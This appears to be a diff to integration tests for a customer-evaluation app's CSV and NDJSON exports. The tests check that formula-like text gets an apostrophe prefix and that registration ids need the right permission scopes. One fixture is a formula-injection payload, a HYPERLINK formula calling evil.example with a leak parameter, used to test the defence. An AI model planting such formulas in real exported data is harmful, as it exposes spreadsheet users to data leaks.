@@ -11,7 +11,26 @@ import { createTestApp, type TestApp } from '../setup/app.js';
 let t: TestApp;
 let server: express.Express;
 let cycleId: string;
+let priorCycleId: string;
 const QUIRKY_NAME = 'Quote "Co", Ltd\nBranch; 华东';
+/** Text a spreadsheet program would run as a formula: one customer (name and registration id) per first character. */
+const FORMULA_STARTS = ['=', '+', '-', '@', '\t', '\r'];
+const FORMULA_NAMES = FORMULA_STARTS.map((start, index) => (index === 0 ? '=HYPERLINK("https://evil.example/?leak=1","Open")' : `${start}${index}+1 Trading Co.`));
+const FORMULA_IDS = FORMULA_STARTS.map((start, index) => `${start}91330${index}`);
+/** The prior cycle's grades start like formulas too (grade names are trimmed: no tab or CR); they come back as previous_grade. */
+const PRIOR_GRADES = ['=', '+', '-', '@'].map((start, index) => `${start}G${index + 1}`);
+const PRIOR_NAME = '+FY2024 restated';
+/** Customers in the baseline, the quirky one and the formula-like ones. */
+const CUSTOMERS = 13 + FORMULA_STARTS.length;
+const EAST_CUSTOMERS = 10 + FORMULA_STARTS.length;
+
+/**
+ * docs/bi-export.md: a CSV text field starting with =, +, -, @, tab or CR is written with a leading
+ * apostrophe, which a CSV reader keeps; other text comes back as it was.
+ */
+function asSpreadsheetText(value: string): string {
+  return FORMULA_STARTS.includes(value.charAt(0)) ? `'${value}` : value;
+}
 
 const sql = <T = Record<string, unknown>>(query: string, params: unknown[] = []) => t.orm.em.fork().getConnection().execute<T[]>(query, params);
 
@@ -98,9 +117,9 @@ function asCsvRow(node: Record<string, any>): Record<string, string> {
   const text = (value: unknown) => (value === null || value === undefined ? '' : String(value));
   return {
     customer_id: node.customer.id,
-    customer_name: node.customer.legalName,
-    region_code: text(node.region?.code),
-    territory_code: text(node.territory?.code),
+    customer_name: asSpreadsheetText(text(node.customer.legalName)),
+    region_code: asSpreadsheetText(text(node.region?.code)),
+    territory_code: asSpreadsheetText(text(node.territory?.code)),
     purchase_count: text(node.purchaseCount),
     purchase_amount: node.purchaseAmount,
     amount_paid: node.amountPaid,
@@ -108,10 +127,10 @@ function asCsvRow(node: Record<string, any>): Record<string, string> {
     average_days_late: text(node.averageDaysLate),
     contribution: text(node.contribution),
     score: text(node.score),
-    grade: text(node.grade),
+    grade: asSpreadsheetText(text(node.grade)),
     rank_in_region: text(node.rankInRegion),
     rank_overall: text(node.rankOverall),
-    previous_grade: text(node.previousGrade),
+    previous_grade: asSpreadsheetText(text(node.previousGrade)),
     movement: text(node.movement),
     quadrant: text(node.quadrant),
     value_tier: text(node.valueTier),
@@ -133,6 +152,23 @@ beforeAll(async () => {
   await sql(`insert into customer (id, legal_name, normalized_name, territory_id, owner_id, registration_id, created_at, updated_at) values (?, ?, 'quote co branch', ?, ?, '9133QUIRKY', '2025-03-01T00:00:00Z', '2025-03-01T00:00:00Z')`, [
     randomUUID(), QUIRKY_NAME, t.baseline.regions.hangzhou.id, t.baseline.users.repHangzhou.id,
   ]);
+  for (const [index, name] of FORMULA_NAMES.entries()) {
+    await sql(`insert into customer (id, legal_name, normalized_name, territory_id, owner_id, registration_id, created_at, updated_at) values (?, ?, ?, ?, ?, ?, '2024-03-01T00:00:00Z', '2024-03-01T00:00:00Z')`, [
+      randomUUID(), name, `formula ${index}`, t.baseline.regions.hangzhou.id, t.baseline.users.repHangzhou.id, FORMULA_IDS[index],
+    ]);
+  }
+  const prior = await t.gqlAs('admin', `mutation ($input: CreateEvaluationCycleInput!) { createEvaluationCycle(input: $input) { id } }`, {
+    input: {
+      name: PRIOR_NAME,
+      periodStart: '2024-01-01',
+      periodEnd: '2024-12-31',
+      weights: { purchaseCount: 0.2, purchaseAmount: 0.2, amountPaid: 0.2, paymentTimeliness: 0.2, contribution: 0.2 },
+      grades: PRIOR_GRADES.map((name, index) => ({ name, minScore: (PRIOR_GRADES.length - 1 - index) * 10 })),
+    },
+  });
+  priorCycleId = prior.data!.createEvaluationCycle.id;
+  await runCycle(priorCycleId);
+  expect((await t.gqlAs('admin', `mutation ($id: ID!) { publishEvaluationCycle(id: $id) { status } }`, { id: priorCycleId })).errors).toBeUndefined();
   const created = await t.gqlAs('admin', `mutation ($input: CreateEvaluationCycleInput!) { createEvaluationCycle(input: $input) { id } }`, {
     input: {
       name: 'FY2025, "annual"',
@@ -143,14 +179,18 @@ beforeAll(async () => {
     },
   });
   cycleId = created.data!.createEvaluationCycle.id;
-  await t.gqlAs('admin', `mutation ($id: ID!) { runEvaluationCycle(id: $id) { status } }`, { id: cycleId });
+  await runCycle(cycleId);
+});
+
+async function runCycle(id: string): Promise<void> {
+  await t.gqlAs('admin', `mutation ($id: ID!) { runEvaluationCycle(id: $id) { status } }`, { id });
   for (let attempt = 0; attempt < 300; attempt += 1) {
-    const { data } = await t.gqlAs('admin', `query ($id: ID!) { evaluationRun(cycleId: $id) { status } }`, { id: cycleId });
+    const { data } = await t.gqlAs('admin', `query ($id: ID!) { evaluationRun(cycleId: $id) { status } }`, { id });
     if (data!.evaluationRun.status === 'DONE') return;
     await new Promise((resolve) => setTimeout(resolve, 50));
   }
   throw new Error('the run did not finish');
-});
+}
 
 afterAll(async () => {
   await t?.close();
@@ -169,7 +209,7 @@ describe('CSV export', () => {
     const rows = objects(records);
     const nodes = await connection(asUser('admin'));
     expect(rows).toHaveLength(nodes.length);
-    expect(rows.length).toBe(13);
+    expect(rows.length).toBe(CUSTOMERS);
     const byId = new Map(rows.map((row) => [row.customer_id, row]));
     for (const node of nodes) expect(comparable(byId.get(node.customer.id)!)).toEqual(comparable(asCsvRow(node)));
     // Quoting: commas, quotes and line breaks survive; the cycle name is the same on every row.
@@ -190,6 +230,71 @@ describe('CSV export', () => {
     const nodes = await connection(asUser('repNingbo'));
     expect(rows.map((row) => row.customer_id).sort()).toEqual(nodes.map((node) => node.customer.id).sort());
     expect(rows).toHaveLength(3);
+  });
+});
+
+describe('CSV text that starts like a formula', () => {
+  const NUMERIC = ['purchase_count', 'purchase_amount', 'amount_paid', 'on_time_share', 'average_days_late', 'contribution', 'score', 'rank_in_region', 'rank_overall', 'customer_value'];
+  const formulaRows = (rows: Record<string, string>[]) => rows.filter((row) => FORMULA_NAMES.some((name) => row.customer_name === `'${name}`));
+
+  /** No field a spreadsheet would run: nothing parses back starting with =, +, -, @, tab or CR, bar numbers. */
+  function expectNoLiveFormula(rows: Record<string, string>[]): void {
+    for (const row of rows) {
+      for (const [column, value] of Object.entries(row)) {
+        if (NUMERIC.includes(column)) expect(value === '' || Number.isFinite(Number(value)), `${column} ${value}`).toBe(true);
+        else expect(FORMULA_STARTS, `${column} ${JSON.stringify(value)}`).not.toContain(value.charAt(0));
+      }
+    }
+  }
+
+  it('gets a leading apostrophe inside quotes: names, registration ids and previous grades, for an admin', async () => {
+    const text = (await exportAs(t.tokenFor('admin'), { cycle: cycleId, format: 'csv' })).body as string;
+    expect(text).toContain(`,"'=HYPERLINK(""https://evil.example/?leak=1"",""Open"")",`);
+    const rows = objects(parseCsv(text));
+    expectNoLiveFormula(rows);
+    const formulas = formulaRows(rows);
+    expect(formulas).toHaveLength(FORMULA_STARTS.length);
+    for (const [index, name] of FORMULA_NAMES.entries()) {
+      const row = formulas.find((candidate) => candidate.customer_name === `'${name}`)!;
+      expect(row.registration_id).toBe(`'${FORMULA_IDS[index]}`);
+      expect(PRIOR_GRADES.map((grade) => `'${grade}`)).toContain(row.previous_grade);
+    }
+  });
+
+  it('gets the apostrophe in grades and cycle names too, for a BI key; NDJSON is not altered', async () => {
+    const key = await apiKey(['evaluations:read', 'customers:read', 'pii:read'], [t.baseline.regions.east.id]);
+    const response = await exportAs(key, { cycle: priorCycleId, format: 'csv' });
+    expect(response.status).toBe(200);
+    const rows = objects(parseCsv(response.body));
+    expectNoLiveFormula(rows);
+    expect(new Set(rows.map((row) => row.cycle_name))).toEqual(new Set([`'${PRIOR_NAME}`]));
+    expect(rows.every((row) => PRIOR_GRADES.map((grade) => `'${grade}`).includes(row.grade))).toBe(true);
+    expect(formulaRows(rows).map((row) => row.registration_id).sort()).toEqual(FORMULA_IDS.map((id) => `'${id}`).sort());
+    const ndjson = ((await exportAs(key, { cycle: priorCycleId, format: 'ndjson' })).body as string).trim().split('\n').map((line) => JSON.parse(line));
+    expect(ndjson.map((row) => row.customer_name)).toContain(FORMULA_NAMES[0]);
+    expect(ndjson[0].cycle_name).toBe(PRIOR_NAME);
+  });
+
+  it('leaves numbers alone: a negative number stays a number', async () => {
+    const [result] = await sql<{ id: string; customer_id: string }>('select id, customer_id from evaluation where cycle_id = ? order by customer_id limit 1', [cycleId]);
+    await sql('update evaluation set customer_value = -12.50 where id = ?', [result!.id]);
+    const rows = objects(parseCsv((await exportAs(t.tokenFor('admin'), { cycle: cycleId, format: 'csv' })).body));
+    expect(rows.find((row) => row.customer_id === result!.customer_id)!.customer_value).toBe('-12.50');
+  });
+
+  it('is rewritten by the migration in the lines a database already holds, published cycles included', async () => {
+    const prior = async () => objects(parseCsv((await exportAs(t.tokenFor('admin'), { cycle: priorCycleId, format: 'csv' })).body));
+    const migrator = t.orm.getMigrator();
+    // As the lines were before the migration: live formulas.
+    await migrator.down({ migrations: ['Migration20261202000200'] });
+    try {
+      expect((await prior()).map((row) => row.customer_name)).toContain(FORMULA_NAMES[0]);
+    } finally {
+      await migrator.up();
+    }
+    const rows = await prior();
+    expectNoLiveFormula(rows);
+    expect(formulaRows(rows)).toHaveLength(FORMULA_STARTS.length);
   });
 });
 
@@ -256,7 +361,7 @@ describe('export access', () => {
     expect((await exportAs(t.tokenFor('admin'), { cycle: randomUUID() })).status).toBe(404);
   });
 
-  it('gives a BI key published cycles only, within its territories, and personal data only with pii:read', async () => {
+  it('gives a BI key published cycles only, within its territories, and registration ids only with customers:read and pii:read', async () => {
     const { east, south } = t.baseline.regions;
     const noScope = await apiKey(['customers:read'], [east.id]);
     expect((await exportAs(noScope, { cycle: cycleId })).status).toBe(403);
@@ -270,17 +375,27 @@ describe('export access', () => {
     expect(response.status).toBe(200);
     const records = parseCsv(response.body);
     expect(records[0]).not.toContain('registration_id');
-    expect(records[0]).toEqual(EXPORT_COLUMNS.filter((column) => !column.pii).map((column) => column.name));
+    expect(records[0]).toEqual(EXPORT_COLUMNS.map((column) => column.name).filter((name) => name !== 'registration_id'));
     const rows = objects(records);
     const nodes = await connection(asKey(eastKey));
     expect(rows.map((row) => row.customer_id).sort()).toEqual(nodes.map((node) => node.customer.id).sort());
-    expect(rows).toHaveLength(10);
+    expect(rows).toHaveLength(EAST_CUSTOMERS);
     expect(new Set(rows.map((row) => row.region_code))).toEqual(new Set(['EAST']));
 
-    const piiKey = await apiKey(['evaluations:read', 'pii:read'], [east.id, south.id]);
-    const full = objects(parseCsv((await exportAs(piiKey, { cycle: cycleId, format: 'csv' })).body));
-    expect(full).toHaveLength(13);
+    // docs/permissions.md: the registration id is a profile field (customers:read); the export also asks pii:read.
+    const piiOnly = await apiKey(['evaluations:read', 'pii:read'], [east.id, south.id]);
+    const withoutProfile = parseCsv((await exportAs(piiOnly, { cycle: cycleId, format: 'csv' })).body);
+    expect(withoutProfile[0]).not.toContain('registration_id');
+    expect(withoutProfile).toHaveLength(CUSTOMERS + 1);
+    expect((await exportAs(piiOnly, { cycle: cycleId, format: 'ndjson' })).body).not.toContain('registration_id');
+    const profileOnly = await apiKey(['evaluations:read', 'customers:read'], [east.id, south.id]);
+    expect(parseCsv((await exportAs(profileOnly, { cycle: cycleId, format: 'csv' })).body)[0]).not.toContain('registration_id');
+    const fullKey = await apiKey(['evaluations:read', 'customers:read', 'pii:read'], [east.id, south.id]);
+    const full = objects(parseCsv((await exportAs(fullKey, { cycle: cycleId, format: 'csv' })).body));
+    expect(full).toHaveLength(CUSTOMERS);
     expect(full.find((row) => row.customer_name === QUIRKY_NAME)!.registration_id).toBe('9133QUIRKY');
+    const fullNdjson = ((await exportAs(fullKey, { cycle: cycleId, format: 'ndjson' })).body as string).trim().split('\n').map((line) => JSON.parse(line));
+    expect(fullNdjson.find((row) => row.customer_name === QUIRKY_NAME).registration_id).toBe('9133QUIRKY');
     const ndjson = (await exportAs(eastKey, { cycle: cycleId, format: 'ndjson' })).body as string;
     expect(ndjson).not.toContain('registration_id');
   });
